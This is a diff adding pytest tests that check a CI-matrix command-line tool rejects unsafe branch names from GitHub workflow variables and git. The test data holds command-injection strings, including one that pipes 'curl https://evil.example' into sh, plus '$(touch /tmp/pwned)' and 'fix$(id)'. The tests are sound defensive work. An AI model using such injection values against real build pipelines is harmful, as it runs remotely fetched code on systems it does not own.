@@ -200,6 +200,37 @@ def test_detached_head_takes_the_branch_from_the_workflow(
     assert {e["branch"] for e in json.loads(explicit.stdout)["include"]} == {"other"}
 
 
+@pytest.mark.parametrize(
+    ("env", "variable"),
+    [
+        ({"GITHUB_HEAD_REF": 'x"; curl https://evil.example | sh; #'}, "GITHUB_HEAD_REF"),
+        ({"GITHUB_BASE_REF": "$(touch /tmp/pwned)"}, "GITHUB_BASE_REF"),
+        ({"GITHUB_REF": "refs/heads/a..b"}, "GITHUB_REF"),
+        ({"GITHUB_HEAD_REF": "x" * 100_000}, "GITHUB_HEAD_REF"),
+    ],
+)
+def test_a_branch_from_the_workflow_is_validated_like_an_argument(
+    tmp_path: Path, run_cli: CliRunner, env: dict[str, str], variable: str
+) -> None:
+    """Issue 20 item 12: without a catalog, the branch from GITHUB_*_REF reached the matrix
+    unvalidated."""
+    root = _repo(tmp_path, RECIPES)
+    git(root, "checkout", "-q", "--detach")
+    result = run_cli("matrix", cwd=root, env=env)
+    assert result.returncode == 2, result.stdout
+    assert f"the branch from {variable}, " in result.stderr
+    assert "pass --branch NAME" in result.stderr
+    assert len(result.stderr) < 2000
+    assert result.stdout == ""
+
+
+def test_a_git_branch_outside_the_grammar_is_refused(tmp_path: Path, run_cli: CliRunner) -> None:
+    root = _repo(tmp_path, RECIPES, branch="fix$(id)")
+    result = run_cli("matrix", cwd=root)
+    assert result.returncode == 2
+    assert "the branch from git's current branch, 'fix$(id)', " in result.stderr
+
+
 def test_detached_head_without_a_named_branch_is_bad_input(
     tmp_path: Path, run_cli: CliRunner
 ) -> None:
